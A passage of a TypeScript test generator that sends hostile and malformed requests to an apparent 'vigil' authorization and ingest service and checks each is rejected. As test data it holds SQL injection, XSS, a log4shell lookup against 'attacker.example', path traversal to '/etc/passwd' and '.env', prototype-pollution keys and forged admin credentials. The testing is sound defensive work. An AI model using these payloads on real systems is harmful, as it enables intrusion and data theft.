        (r) => void (r.context = { geo: { latitude, longitude: -74, hasPosition: true } }),
      ],
    ),
    [
      'longitude 181',
      (r) => void (r.context = { geo: { latitude: 40, longitude: 181, hasPosition: true } }),
    ],
    [
      'coordinates without has_position',
      (r) => void (r.context = { geo: { latitude: 1000, longitude: 0 } }),
    ],
    ...[
      'db//prod-payments',
      '/db/prod-payments',
      './db/prod-payments',
      ' db/prod-payments',
      'db/prod-payments/',
      'db/x/../prod-payments',
      'db\\prod-payments',
      'db%2Fprod-payments',
      'db/ prod-payments',
      'db/prod-payments\u200b',
    ].map((resource): [string, (r: vigil.v1.AuthorizeRequest.$Properties) => void] => [
      `resource ${JSON.stringify(resource)}`,
      (r) => void (r.resource = resource),
    ]),
    ...[
      'alice ',
      ' alice',
      'alice\u200b',
      'alice\u0000',
      'al\u202eice',
      'alice\ufeff',
      'a\nb',
      'u'.repeat(257),
      'é'.repeat(129),
    ].map((userId): [string, (r: vigil.v1.AuthorizeRequest.$Properties) => void] => [
      `user_id ${JSON.stringify(clip(userId, 24))}`,
      (r) => void (r.userId = userId),
    ]),
    ['action empty', (r) => void (r.action = '')],
    ['action missing', (r) => void delete r.action],
    ['action with a space', (r) => void (r.action = 'db query')],
  ];
  for (const [name, mutate] of authorizeRefusals) {
    const request = validAuthorize(rng);
    mutate(request);
    cases.push({
      kind: 'grpc',
      category,
      name: `Authorize: ${name}`,
      method: 'authorize',
      auth: bearer(t.authz),
      payload: () => encodeAuthorize(request),
      expect: invalid,
    });
  }
  // Case variants are one user and one resource: valid, decided like the canonical spelling.
  for (const [name, mutate] of [
    ['user_id in upper case', (r) => void (r.userId = r.userId?.toUpperCase())],
    ['resource DB/prod-payments', (r) => void (r.resource = 'DB/prod-payments')],
    ['resource Secrets/a', (r) => void (r.resource = 'Secrets/a')],
    ['action in upper case', (r) => void (r.action = 'DB.QUERY')],
  ] as Array<[string, (r: vigil.v1.AuthorizeRequest.$Properties) => void]>) {
    const request = validAuthorize(rng);
    mutate(request);
    cases.push({
      kind: 'grpc',
      category,
      name: `Authorize: ${name}`,
      method: 'authorize',
      auth: bearer(t.authz),
      payload: () => encodeAuthorize(request),
      expect: { codes: [S.OK] },
    });
  }
  // Megabyte-sized context strings: each becomes part of the decision record sent to Kafka.
  const big: Array<[string, (r: Rng, n: number) => vigil.v1.RequestContext.$Properties]> = [
    ['1.5 MB user agent', (r, n) => ({ userAgent: r.text(n) })],
    ['1.2 MB device id', (r, n) => ({ deviceId: r.text(n) })],
    ['1.2 MB ip', (r, n) => ({ ip: r.text(n) })],
  ];
  big.forEach(([name, context], i) => {
    const r = rng.fork();
    cases.push({
      kind: 'grpc',
      category,
      name: `Authorize: ${name}`,
      method: 'authorize',
      auth: bearer(t.authz),
      payload: () =>
        encodeAuthorize({
          userId: `hostile-big-${i}`,
          action: 'db.query',
          resource: 'app/console',
          context: context(r, i === 0 ? 1_500_000 : 1_200_000),
        }),
      // Over the shared byte limits (user agent 1024, device id 256, ip 45).
      expect: invalid,
    });
  });
  const profileUsers: Array<[string, GrpcExpect]> = [
    ['', invalid],
    ['x'.repeat(257), invalid],
    ['x'.repeat(513), invalid],
    ['alice\u200b', invalid],
    ['alice ', invalid],
    ['a\nb', invalid],
    ['x'.repeat(100_000), invalid],
    ...hostileText.map((u): [string, GrpcExpect] => [u, either]),
    ['{}', either],
    ['*', either],
    ['vigil:risk:{alice}:s', either],
  ];
  for (const [userId, expect] of profileUsers) {
    cases.push({
      kind: 'grpc',
      category,
      name: `GetRiskProfile: user_id ${JSON.stringify(clip(userId, 24))}`,
      method: 'profile',
      auth: bearer(t.admin),
      payload: () => encodeProfile(userId),
      expect,
    });
  }
  const actions: Array<[string, MethodName, () => Buffer]> = [
    [
      'ClearRestriction: user_id missing',
      'clear',
      () => encodeClear({ reviewer: 'r', reason: 'x' }),
    ],
    [
      'ClearRestriction: reviewer missing',
      'clear',
      () => encodeClear({ userId: 'u', reason: 'x' }),
    ],
    [
      'ClearRestriction: reviewer blank',
      'clear',
      () => encodeClear({ userId: 'u', reviewer: ' \t ', reason: 'x' }),
    ],
    [
      'ClearRestriction: reason blank',
      'clear',
      () => encodeClear({ userId: 'u', reviewer: 'r', reason: '\n' }),
    ],
    [
      'ClearRestriction: reviewer too long',
      'clear',
      () => encodeClear({ userId: 'u', reviewer: 'r'.repeat(513), reason: 'x' }),
    ],
    [
      'ClearRestriction: reason too long',
      'clear',
      () => encodeClear({ userId: 'u', reviewer: 'r', reason: 'x'.repeat(1_025) }),
    ],
    [
      'ClearRestriction: user_id too long',
      'clear',
      () => encodeClear({ userId: 'u'.repeat(513), reviewer: 'r', reason: 'x' }),
    ],
    [
      'RestrictUser: user_id missing',
      'restrict',
      () => encodeRestrict({ reviewer: 'r', reason: 'x' }),
    ],
    [
      'RestrictUser: reason missing',
      'restrict',
      () => encodeRestrict({ userId: 'u', reviewer: 'r' }),
    ],
    [
      'RestrictUser: ttl negative',
      'restrict',
      () => encodeRestrict({ userId: 'u', reviewer: 'r', reason: 'x', ttlSeconds: -1 }),
    ],
    [
      'RestrictUser: ttl over a year',
      'restrict',
      () => encodeRestrict({ userId: 'u', reviewer: 'r', reason: 'x', ttlSeconds: 366 * DAY + 1 }),
    ],
    [
      'RestrictUser: ttl 2^53',
      'restrict',
      () => encodeRestrict({ userId: 'u', reviewer: 'r', reason: 'x', ttlSeconds: 2 ** 53 }),
    ],
    [
      'RestrictUser: ttl -2^62',
      'restrict',
      () => encodeRestrict({ userId: 'u', reviewer: 'r', reason: 'x', ttlSeconds: -(2 ** 62) }),
    ],
    [
      'RestrictUser: reviewer too long',
      'restrict',
      () => encodeRestrict({ userId: 'u', reviewer: 'r'.repeat(600), reason: 'x' }),
    ],
    // Issue #11: subjects and reviewers are user ids under the shared rules.
    [
      'RestrictUser: user_id "a\\nb"',
      'restrict',
      () => encodeRestrict({ userId: 'a\nb', reviewer: 'r', reason: 'x' }),
    ],
    [
      'RestrictUser: reviewer "r\\n"',
      'restrict',
      () => encodeRestrict({ userId: 'u', reviewer: 'r\n', reason: 'x' }),
    ],
    [
      'RestrictUser: user_id with U+200B',
      'restrict',
      () => encodeRestrict({ userId: 'u\u200b', reviewer: 'r', reason: 'x' }),
    ],
    [
      'RestrictUser: reviewer with a trailing space',
      'restrict',
      () => encodeRestrict({ userId: 'u', reviewer: 'r ', reason: 'x' }),
    ],
    [
      'RestrictUser: user_id 257 bytes',
      'restrict',
      () => encodeRestrict({ userId: 'u'.repeat(257), reviewer: 'r', reason: 'x' }),
    ],
    [
      'ClearRestriction: user_id "a\\nb"',
      'clear',
      () => encodeClear({ userId: 'a\nb', reviewer: 'r', reason: 'x' }),
    ],
    [
      'ClearRestriction: reviewer "r\\n"',
      'clear',
      () => encodeClear({ userId: 'u', reviewer: 'r\n', reason: 'x' }),
    ],
    [
      'ClearRestriction: reviewer with U+202E',
      'clear',
      () => encodeClear({ userId: 'u', reviewer: 'r\u202e', reason: 'x' }),
    ],
  ];
  for (const [name, method, payload] of actions) {
    cases.push({
      kind: 'grpc',
      category,
      name,
      method,
      auth: bearer(t.admin),
      payload,
      expect: invalid,
    });
  }
  // Hostile but valid admin actions: each publishes one audit event when accepted.
  cases.push(
    {
      kind: 'grpc',
      category: 'grpc hostile but valid',
      name: 'ClearRestriction: injection strings as reviewer and reason',
      method: 'clear',
      auth: bearer(t.admin),
      payload: () =>
        encodeClear({
          userId: 'hostile-subject-1',
          reviewer: "'; DROP TABLE reviewers; --",
          reason: '<img src=x onerror=alert(1)>',
        }),
      expect: either,
    },
    {
      kind: 'grpc',
      category: 'grpc hostile but valid',
      name: 'RestrictUser: braces, bidi override and log4shell',
      method: 'restrict',
      auth: bearer(t.admin),
      payload: () =>
        encodeRestrict({
          userId: 'hostile-subject-2{x}%',
          reviewer: 'rev\u202e',
          reason: '${jndi:ldap://attacker.example/a}',
          ttlSeconds: 60,
        }),
      expect: either,
    },
  );
  return cases;
}

function grpcHostileButValidCases(rng: Rng, t: Tokens): GrpcCase[] {
  return HOSTILE_BUT_VALID.map((h, i) => {
    const event = validEvent(rng, `hostile-valid-grpc-${i}`);
    h.change(event);
    return {
      kind: 'grpc',
      category: 'grpc hostile but valid',
      name: `Publish: ${h.name}`,
      method: 'publish',
      auth: bearer(t.ingest),
      payload: () => encodeEvent(event),
      expect: h.refused ? { codes: [S.INVALID_ARGUMENT] } : { codes: [S.OK] },
      verify: event,
    };
  });
}

/** Attribute keys are echoed in violation field names; these make the status message huge. */
function grpcEchoCases(rng: Rng, t: Tokens): GrpcCase[] {
  const keys: Array<[string, string]> = [
    ['100,000-char attribute key', 'k'.repeat(100_000)],
    ['300,000-char attribute key', 'k'.repeat(300_000)],
    ['40,000 x "é" attribute key', 'é'.repeat(40_000)],
  ];
  return keys.map(([name, key], i) => {
    const event = validEvent(rng, `hostile-echo-${i}`);
    event.attributes = { [key]: 'v' };
    return {
      kind: 'grpc',
      category: 'grpc huge echoed key',
      name: `${i === 2 ? 'PublishBatch' : 'Publish'}: ${name}`,
      method: i === 2 ? 'publishBatch' : 'publish',
      auth: bearer(t.ingest),
      payload: () => (i === 2 ? encodeBatch([event]) : encodeEvent(event)),
      expect: { codes: [S.INVALID_ARGUMENT] },
      isolate: true,
    };
  });
}

function grpcOversizeCases(rng: Rng, t: Tokens): GrpcCase[] {
  const sizes: Array<[MethodName, number, string]> = [
    ['publish', INGEST_MAX_RECEIVE + 1, bearer(t.ingest)],
    ['publish', 1_500_000, bearer(t.ingest)],
    ['publishBatch', 2_000_000, bearer(t.ingest)],
    ['authorize', RISK_MAX_RECEIVE + 1, bearer(t.authz)],
    ['profile', 5_000_000, bearer(t.admin)],
    ['clear', 4_500_000, bearer(t.admin)],
  ];
  return sizes.map(([method, size, auth]): GrpcCase => {
    const r = rng.fork();
    return {
      kind: 'grpc',
      category: 'grpc oversized message',
      name: `${method} ${size.toLocaleString('en-US')} bytes`,
      method,
      auth,
      payload: () => r.bulk(size),
      expect: { codes: [S.RESOURCE_EXHAUSTED] },
      isolate: true,
    };
  });
}

function grpcUnknownMethodCases(rng: Rng, t: Tokens): GrpcCase[] {
  const paths: Array<[Service, string]> = [
    ['ingest', '/vigil.v1.IngestService/Nope'],
    ['ingest', '/vigil.v1.IngestService/publish'],
    ['ingest', '/vigil.v1.IngestService/'],
    ['ingest', '/vigil.v1.IngestService/Publish/extra'],
    ['ingest', '/vigil.v1.IngestService/Authorize'],
    ['ingest', '/vigil.v1.AuthorizationService/Authorize'],
    ['ingest', '/vigil.v1.RiskAdminService/RestrictUser'],
    ['ingest', '/vigil.v2.IngestService/Publish'],
    ['ingest', '/vigil.v1.IngestService/../RiskAdminService/RestrictUser'],
    ['ingest', '/'],
    ['ingest', '/%00'],
    ['ingest', '/grpc.health.v1.Health/Nope'],
    ['ingest', `/${'A'.repeat(2_000)}/${'B'.repeat(2_000)}`],
    ['risk', '/vigil.v1.IngestService/Publish'],
    ['risk', '/vigil.v1.IngestService/PublishBatch'],
    ['risk', '/vigil.v1.AuthorizationService/authorize'],
    ['risk', '/vigil.v1.AuthorizationService/AuthorizeAll'],
    ['risk', '/vigil.v1.RiskAdminService/DeleteEverything'],
    ['risk', '/vigil.v1.RiskAdminService/GetRiskProfiles'],
    ['risk', '/vigil.v1.RiskAdminService/'],
    ['risk', '/vigil.v1.riskadminservice/GetRiskProfile'],
    ['risk', '/'],
    ['risk', '/grpc.health.v1.Health/Nope'],
    ['risk', `/${'A'.repeat(2_000)}/${'B'.repeat(2_000)}`],
  ];
  for (let i = 0; i < 16; i++) {
    paths.push([
      rng.pick(['ingest', 'risk'] as const),
      `/vigil.v1.${rng.text(rng.int(1, 12))}/${rng.text(rng.int(1, 12))}`,
    ]);
  }
  return paths.map(([service, path], i) => {
    const payload = rng.bytes(rng.int(0, 64));
    return {
      kind: 'grpc',
      category: 'grpc unknown method',
      name: `${service} ${clip(path, 48)} #${i}`,
      method: { path, service },
      auth: bearer(service === 'ingest' ? t.ingest : t.authz),
      payload: () => payload,
      expect: { codes: [S.UNIMPLEMENTED] },
    };
  });
}

function grpcAuthCases(rng: Rng, t: Tokens): GrpcCase[] {
  const cases: GrpcCase[] = [];
  const forged = () => rng.text(24);
  const basic = `Basic ${Buffer.from('admin:admin').toString('base64')}`;
  const ingestVariants = (): Array<string | string[] | undefined> => [
    undefined,
    '',
    bearer(forged()),
    basic,
    'Bearer',
    `Bearer ${forged()} extra`,
    `Token ${t.ingest}`,
    bearer(t.authz),
    bearer(t.admin),
    bearer('x'.repeat(8_000)),
    bearer(rng.text(16_000)),
    bearer(rng.text(32_000)),
    `bearer ${forged()}`,
    bearer(t.ingest.slice(0, -1)),
    `${bearer(t.ingest)}=`,
  ];
  const riskVariants = (): Array<string | string[] | undefined> => [
    undefined,
    '',
    bearer(forged()),
    basic,
    'Bearer',
    `Bearer ${forged()} extra`,
    bearer(t.ingest),
    bearer(t.admin),
    bearer('x'.repeat(8_000)),
    `Token ${t.authz}`,
    bearer(t.authz.slice(1)),
  ];
  const adminVariants = (): Array<string | string[] | undefined> => [
    undefined,
    '',
    bearer(forged()),
    bearer(t.authz),
    bearer(t.ingest),
    basic,
    bearer('x'.repeat(8_000)),
    `Token ${t.admin}`,
    'Bearer',
  ];
  const label = (auth: string | string[] | undefined) =>
    auth === undefined ? 'no token' : JSON.stringify(clip([auth].flat().join(' | '), 40));
  const add = (method: MethodName, auth: string | string[] | undefined, payload: Buffer) =>
    cases.push({
      kind: 'grpc',
      category: 'grpc bad credentials',
      name: `${method} with ${label(auth)}`,
      method,
      auth,
      payload: () => payload,
      expect: { codes: [S.UNAUTHENTICATED] },
    });
  for (let round = 0; round < 2; round++) {
    // Valid requests throughout: only the credentials are wrong.
    for (const auth of ingestVariants()) {
      add('publish', auth, encodeEvent(validEvent(rng, `hostile-auth-${cases.length}`)));
      add('publishBatch', auth, encodeBatch([validEvent(rng, `hostile-auth-${cases.length}`)]));
    }
    for (const auth of riskVariants()) add('authorize', auth, encodeAuthorize(validAuthorize(rng)));
  }
  for (const auth of adminVariants()) {
    add('profile', auth, encodeProfile('hostile-authz-1'));
    add(
      'clear',
      auth,
      encodeClear({ userId: 'hostile-auth-subject', reviewer: 'rev', reason: 'because' }),
    );
    add(
      'restrict',
      auth,
      encodeRestrict({
        userId: 'hostile-auth-subject',
        reviewer: 'rev',
        reason: 'because',
        ttlSeconds: 60,
      }),
    );
  }
  // Header blocks beyond HTTP/2's limits: refused by the transport or the service, either cleanly.
  for (const [method, size] of [
    ['publish', 80_000],
    ['publish', 200_000],
    ['authorize', 80_000],
    ['profile', 200_000],
  ] as Array<[MethodName, number]>) {
    const payload =
      method === 'publish'
        ? encodeEvent(validEvent(rng, `hostile-huge-header-${size}`))
        : method === 'authorize'
          ? encodeAuthorize(validAuthorize(rng))
          : encodeProfile('hostile-authz-2');
    cases.push({
      kind: 'grpc',
      category: 'grpc huge metadata',
      name: `${method} with a ${size.toLocaleString('en-US')}-char authorization header`,
      method,
      auth: bearer(rng.text(size)),
      payload: () => payload,
      expect: { codes: [S.UNAUTHENTICATED, S.INTERNAL], internal: 'http2-reset' },
      isolate: true,
    });
  }
  return cases;
}

// ---- HTTP case generators -------------------------------------------------------------------

const jsonHeaders = (token: string) => ({
  authorization: bearer(token),
  'content-type': 'application/json',
});
const BAD_REQUEST: HttpExpect = {
  statuses: [400],
  codes: ['INVALID_ARGUMENT', 'MALFORMED_REQUEST'],
};
const TOO_LARGE: HttpExpect = { statuses: [413], codes: ['BATCH_TOO_LARGE'] };

function httpCase(
  category: string,
  name: string,
  request: () => HttpRequestSpec | { raw: Buffer | string },
  expect: HttpExpect,
  verify?: EventInput,
): HttpCase {
  return { kind: 'http', category, name, request, expect, ...(verify ? { verify } : {}) };
}

function httpJsonCases(rng: Rng, t: Tokens): HttpCase[] {
  const cases: HttpCase[] = [];
  const headers = jsonHeaders(t.ingest);
  const post = (body: Buffer | string): HttpRequestSpec => ({ headers, body });

  const fixedInvalid = [
    '{',
    '}',
    '{"a":',
    '{"a" 1}',
    "{'a': 1}",
    '{"a":NaN}',
    '{"a":Infinity}',
    '{"a":1,}',
    '[1,]',
    '// c\n{}',
    '/* c */{}',
    '{"a":undefined}',
    '{"a":"\u0001"}',
    '\ufeff{}',
    '{}}',
    '{} {}',
    '{"a":"\\x41"}',
    '{"a":"\\u12"}',
    '0x10',
    '01',
    '.5',
    'tru',
    '"unterminated',
    '{"a":[1,2}',
    'NaN',
    '-',
    '[',
    '{"a":1}garbage',
  ];
  for (const body of fixedInvalid)
    cases.push(
      httpCase('http invalid JSON', `body ${JSON.stringify(body)}`, () => post(body), BAD_REQUEST),
    );
  for (let i = 0; i < 52; i++) {
    const kind = i % 3;
    let body: Buffer;
    let name: string;
    if (kind === 0) {
      const text = jsonText(toJson(validEvent(rng, `hostile-trunc-${i}`)));
      const cut = rng.int(1, text.length - 1);
      body = Buffer.from(text.slice(0, cut));
      name = `valid event cut at ${cut}/${text.length}`;
    } else if (kind === 1) {
      body = Buffer.from(rng.text(rng.int(1, 4_096)));
      name = `${body.length} random printable characters`;
    } else {
      body = rng.bytes(rng.int(1, 4_096));
      name = `${body.length} random bytes`;
    }
    cases.push(httpCase('http invalid JSON', `${name} #${i}`, () => post(body), BAD_REQUEST));
  }

  type JsonMutation = [string, (j: Json, r: Rng) => void];
  const wrongTypes: JsonMutation[] = [
    [
      'eventId not a string',
      (j, r) => void (j.eventId = r.pick<unknown>([123, true, [], {}, ['a']])),
    ],
    [
      'action not a string',
      (j, r) => void (j.action = r.pick<unknown>([1, false, ['auth.login'], { name: 'x' }])),
    ],
    ['actor not an object', (j, r) => void (j.actor = r.pick<unknown>(['alice', 42, [], true]))],
    [
      'user id not a string',
      (j, r) =>
        void (jsonObject(j, 'actor').userId = r.pick<unknown>([42, ['alice'], { id: 'a' }, false])),
    ],
    [
      'latitude not a number',
      (j, r) =>
        void (jsonObject(jsonObject(j, 'actor'), 'geo').latitude = r.pick<unknown>([
          '52.5',
          [52.5],
          { v: 1 },
          true,
        ])),
    ],
    [
      'hasPosition not a boolean',
      (j, r) =>
        void (jsonObject(jsonObject(j, 'actor'), 'geo').hasPosition = r.pick<unknown>([
          'true',
          1,
          [],
          {},
        ])),
    ],
    [
      'geo not an object',
      (j, r) => void (jsonObject(j, 'actor').geo = r.pick<unknown>(['DE', 1, [1, 2]])),
    ],
    [
      'attributes not an object',
      (j, r) => void (j.attributes = r.pick<unknown>([[], 'x', 1, [['k', 'v']]])),
    ],
    [
      'attribute value not a string',
      (j, r) => void (j.attributes = { k: r.pick<unknown>([1, true, null, {}, ['v']]) }),
    ],
    [
      'occurredAt not a string',
      (j, r) => void (j.occurredAt = r.pick<unknown>([1_700_000_000, { seconds: 1 }, [], true])),
    ],
    [
      'resource not a string',
      (j, r) => void (j.resource = r.pick<unknown>([{ $gt: '' }, ['db'], 0])),
    ],
    [
      'unknown top-level field',
      (j, r) =>
        setOwn(
          j,
          r.pick([
            'userID',
            'user_ID',
            'actor.userId',
            'occured_at',
            'extra',
            '__proto__',
            'constructor',
            'prototype',
            '$where',
          ]),
          'x',
        ),
    ],
    [
      'unknown actor field',
      (j, r) => setOwn(jsonObject(j, 'actor'), r.pick(['email', 'user', '__proto__']), 'x'),
    ],
    [
      'unknown geo field',
      (j, r) =>
        setOwn(jsonObject(jsonObject(j, 'actor'), 'geo'), r.pick(['lat', 'lng', 'country']), 1),
    ],
  ];
  for (let i = 0; i < 60; i++) {
    const [name, mutate] = rng.pick(wrongTypes);
    const json = toJson(validEvent(rng, `hostile-type-${i}`));
    mutate(json, rng);
    const batch = rng.chance(0.25);
    const body = jsonText(batch ? [toJson(validEvent(rng, `hostile-type-ok-${i}`)), json] : json);
    cases.push(
      httpCase(
        'http wrong types',
        `${name}${batch ? ' (in a batch)' : ''} #${i}`,
        () => post(body),
        BAD_REQUEST,
      ),
    );
  }
  const valid = () => jsonText(toJson(validEvent(rng, `hostile-top-${cases.length}`)));
  const topLevel = [
    '[1,2,3]',
    '["a"]',
    '[null]',
    '[[]]',
    '42',
    '"event"',
    'true',
    'null',
    '{}',
    '[{}]',
    `[${valid()},1]`,
    `[${valid()},"x"]`,
  ];
  for (const body of topLevel)
    cases.push(
      httpCase('http wrong types', `top level ${clip(body, 30)}`, () => post(body), BAD_REQUEST),
    );
  for (const depth of [10_000, 100_000]) {
    cases.push(
      httpCase(
        'http wrong types',
        `arrays nested ${depth} deep`,
        () => post('['.repeat(depth) + ']'.repeat(depth)),
        BAD_REQUEST,
      ),
    );
  }
  for (const depth of [10_000, 150_000]) {
    cases.push(
      httpCase(
        'http wrong types',
        `attribute value of objects nested ${depth} deep`,
        () => post(`{"attributes":{"k":${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}}}`),
        BAD_REQUEST,
      ),
    );
  }

  const usable = VIOLATIONS.filter((v) => v.json || !v.grpcOnly);
  const mutateJson = (v: Violation, e: EventInput): Json => {
    if (v.json) {
      const json = toJson(e);
      v.json(json, rng);
      return json;
    }
    v.proto?.(e, rng);
    return toJson(e);
  };
  for (let i = 0; i < 60; i++) {
    const violation = rng.pick(usable);
    const body = jsonText(mutateJson(violation, validEvent(rng, `hostile-http-value-${i}`)));
    cases.push(
      httpCase('http invalid values', `${violation.name} #${i}`, () => post(body), BAD_REQUEST),
    );
  }
  for (let i = 0; i < 20; i++) {
    const events = Array.from({ length: rng.int(2, 10) }, (_, k) =>
      validEvent(rng, `hostile-http-batch-${i}-${k}`),
    );
    const json = events.map(toJson);
    let name: string;
    if (i % 5 === 0) {
      (json[rng.int(1, json.length - 1)] as Json).eventId = (json[0] as Json).eventId;
      name = `duplicate event id in a batch of ${json.length}`;
    } else {
      const violation = rng.pick(usable);
      const k = rng.int(0, events.length - 1);
      json[k] = mutateJson(violation, events[k] as EventInput);
      name = `${violation.name} in one event of ${json.length}`;
    }
    const body = jsonText(json);
    cases.push(httpCase('http invalid values', `${name} #${i}`, () => post(body), BAD_REQUEST));
  }
  const [rH1001, rHMib] = [rng.fork(), rng.fork()];
  cases.push(
    httpCase('http invalid values', 'empty array', () => post('[]'), BAD_REQUEST),
    httpCase(
      'http invalid values',
      '1,001 events',
      () =>
        post(
          jsonText(
            Array.from({ length: 1_001 }, (_, k) =>
              toJson(validEvent(rH1001, `hostile-h1001-${k}`)),
            ),
          ),
        ),
      TOO_LARGE,
    ),
    httpCase(
      'http invalid values',
      '20 valid events over 1 MiB encoded',
      () =>
        post(
          jsonText(
            Array.from({ length: 20 }, (_, k) =>
              toJson({
                ...validEvent(rHMib, `hostile-hmib-${k}`),
                attributes: manyAttributes(50, 100, 1_000),
              }),
            ),
          ),
        ),
      TOO_LARGE,
    ),
  );

  for (const [i, key] of ['k'.repeat(100_000), 'k'.repeat(300_000), 'é'.repeat(40_000)].entries()) {
    const event = validEvent(rng, `hostile-http-echo-${i}`);
    event.attributes = { [key]: 'v' };
    cases.push(
      httpCase(
        'http huge echoed key',
        `${key.length}-char attribute key`,
        () => post(jsonText(toJson(event))),
        BAD_REQUEST,
      ),
    );
  }

  HOSTILE_BUT_VALID.forEach((h, i) => {
    const event = validEvent(rng, `hostile-valid-http-${i}`);
    h.change(event);
    cases.push(
      httpCase(
        'http hostile but valid',
        h.name,
        () => post(jsonText(toJson(event))),
        h.refused ? { statuses: [400], codes: ['INVALID_ARGUMENT'] } : { statuses: [200] },
        event,
      ),
    );
  });
  return cases;
}

function httpUnicodeCases(rng: Rng, t: Tokens): HttpCase[] {
  const cases: HttpCase[] = [];
  const headers = jsonHeaders(t.ingest);
  const MARK = 'XBADX';
  const fields: Array<[string, (e: EventInput) => void]> = [
    ['actor.userId', (e) => void (actorOf(e).userId = `user${MARK}`)],
    ['action', (e) => void (e.action = `auth.${MARK}`)],
    ['resource', (e) => void (e.resource = `db/${MARK}`)],
    ['tenantId', (e) => void (e.tenantId = `t${MARK}`)],
    ['actor.userAgent', (e) => void (actorOf(e).userAgent = `ua${MARK}`)],
    ['actor.sessionId', (e) => void (actorOf(e).sessionId = `s${MARK}`)],
    ['attributes value', (e) => void (attrsOf(e).note = `n${MARK}`)],
    ['attributes key', (e) => void (attrsOf(e)[`k${MARK}`] = 'v')],
  ];
  // Raw bytes that are not UTF-8 inside a string of an otherwise valid event.
  for (let i = 0; i < 20; i++) {
    const [field, place] = rng.pick(fields);
    const bad = rng.pick(BAD_UTF8);
    const event = validEvent(rng, `hostile-utf8-${i}`);
    place(event);
    const [before, after] = jsonText(toJson(event)).split(MARK) as [string, string];
    const body = Buffer.concat([Buffer.from(before), Buffer.from(bad), Buffer.from(after)]);
    const hex = bad.map((b) => b.toString(16).padStart(2, '0')).join(' ');
    cases.push(
      httpCase(
        'http invalid Unicode',
        `bytes ${hex} in ${field} #${i}`,
        () => ({ headers, body }),
        BAD_REQUEST,
      ),
    );
  }
  // Not UTF-8 outside of strings.
  for (let i = 0; i < 5; i++) {
    const text = jsonText(toJson(validEvent(rng, `hostile-utf8-struct-${i}`)));
    const at = text.indexOf(':') + 1;
    const body = Buffer.concat([
      Buffer.from(text.slice(0, at)),
      Buffer.from(rng.pick(BAD_UTF8)),
      Buffer.from(text.slice(at)),
    ]);
    cases.push(
      httpCase(
        'http invalid Unicode',
        `non-UTF-8 bytes between tokens #${i}`,
        () => ({ headers, body }),
        BAD_REQUEST,
      ),
    );
  }
  // Lone surrogates: valid JSON escapes, but no Unicode scalar value, so no UTF-8 encoding.
  for (let i = 0; i < 10; i++) {
    const [field, place] = rng.pick(fields);
    const escape = rng.pick(['\\ud800', '\\udfff', '\\ud83d', '\\udc00x']);
    const event = validEvent(rng, `hostile-surrogate-${i}`);
    place(event);
    const body = jsonText(toJson(event)).replace(MARK, escape);
    cases.push(
      httpCase(
        'http invalid Unicode',
        `lone surrogate ${escape} in ${field} #${i}`,
        () => ({ headers, body }),
        BAD_REQUEST,
      ),
    );
  }
  return cases;
}

function httpRequestShapeCases(rng: Rng, t: Tokens): HttpCase[] {
  const cases: HttpCase[] = [];
  const event = () => jsonText(toJson(validEvent(rng, `hostile-shape-${cases.length}`)));

  const rNine = rng.fork();
  const oversize: Array<[string, () => HttpRequestSpec, HttpExpect]> = [
    [
      'Content-Length 5 MiB, answered from the headers',
      () => ({
        headers: jsonHeaders(t.ingest),
        partial: { declaredLength: 5 * 1024 * 1024, first: Buffer.alloc(64 * 1024, 0x20) },
      }),
      TOO_LARGE,
    ],
    [
      'Content-Length limit + 1, answered from the headers',
      () => ({
        headers: jsonHeaders(t.ingest),
        partial: { declaredLength: HTTP_MAX_BODY + 1, first: Buffer.from('[') },
      }),
      TOO_LARGE,
    ],
    [
      'Content-Length 1 TB',
      () => ({
        headers: jsonHeaders(t.ingest),
        partial: { declaredLength: 1e12, first: Buffer.from('{') },
      }),
      TOO_LARGE,
    ],
    [
      'Content-Length 5 MiB, all of it sent',
      () => ({ headers: jsonHeaders(t.ingest), body: Buffer.alloc(5 * 1024 * 1024, 0x20) }),
      { ...TOO_LARGE, transportErrors: ['EPIPE', 'ECONNRESET'] },
    ],
    [
      'chunked 5 MiB',
      () => ({
        headers: jsonHeaders(t.ingest),
        chunks: Array.from({ length: 5 }, () => Buffer.alloc(1024 * 1024, 0x20)),
      }),
      { ...TOO_LARGE, transportErrors: ['EPIPE', 'ECONNRESET'] },
    ],
    [
      'chunked 9 MiB of random bytes',
      () => ({
        headers: jsonHeaders(t.ingest),
        chunks: Array(9).fill(rNine.bulk(1024 * 1024)) as Buffer[],
      }),
      { ...TOO_LARGE, transportErrors: ['EPIPE', 'ECONNRESET'] },
    ],
  ];
  for (const [name, request, expect] of oversize)
    cases.push(httpCase('http oversized body', name, request, expect));

  const contentTypes = [
    undefined,
    'text/plain',
    'application/x-www-form-urlencoded',
    'multipart/form-data; boundary=x',
    'application/jsonp',
    'application/json-seq',
    'application/xml',
    'json',
    '*/*',
    'application/problem+json',
    'text/json',
    'application/vnd.api+json',
    'application/json5',
    'application/octet-stream',
    'application/grpc',
  ];
  for (let i = 0; i < 30; i++) {
    const type = contentTypes[i % contentTypes.length];
    const body = event();
    cases.push(
      httpCase(
        'http content type',
        `content-type ${type ?? '(none)'} #${i}`,
        () => ({
          headers: { authorization: bearer(t.ingest), ...(type ? { 'content-type': type } : {}) },
          body,
        }),
        { statuses: [415], codes: ['UNSUPPORTED_MEDIA_TYPE'] },
      ),
    );
  }

  const methods = ['GET', 'PUT', 'DELETE', 'PATCH', 'OPTIONS', 'HEAD', 'TRACE'];
  for (let i = 0; i < 30; i++) {
    const method = methods[i % methods.length] as string;
    const withBody = method !== 'GET' && method !== 'HEAD' && method !== 'TRACE' && rng.chance(0.5);
    const body = event();
    const withAuth = rng.chance(0.5);
    cases.push(
      httpCase(
        'http method',
        `${method} /v1/events #${i}`,
        () => ({
          method,
          headers: withAuth ? jsonHeaders(t.ingest) : {},
          ...(withBody ? { body } : {}),
        }),
        { statuses: [405], codes: ['METHOD_NOT_ALLOWED'] },
      ),
    );
  }

  const paths = [
    '/',
    '/v1',
    '/v1/event',
    '/v1/events/',
    '/V1/EVENTS',
    '/v1/events/../admin',
    '/v1//events',
    '//v1/events',
    '/v1/events%00',
    '/v1/events%2F',
    '/v1/events;x',
    '/v1/events#frag',
    '/metrics',
    '/healthz',
    '/readyz',
    '/admin',
    '/.env',
    '/../../etc/passwd',
    '/v1/events.json',
    '/api/v1/events',
    `/${'a'.repeat(8_000)}`,
    '/%ff%fe',
    '/v1/events/1',
    '/vigil.v1.IngestService/Publish',
  ];
  for (let i = 0; i < 30; i++) {
    const path =
      i < paths.length
        ? (paths[i] as string)
        : `/${rng.text(rng.int(1, 40)).replace(/[+/=]/g, '-')}`;
    const body = event();
    cases.push(
      httpCase(
        'http unknown path',
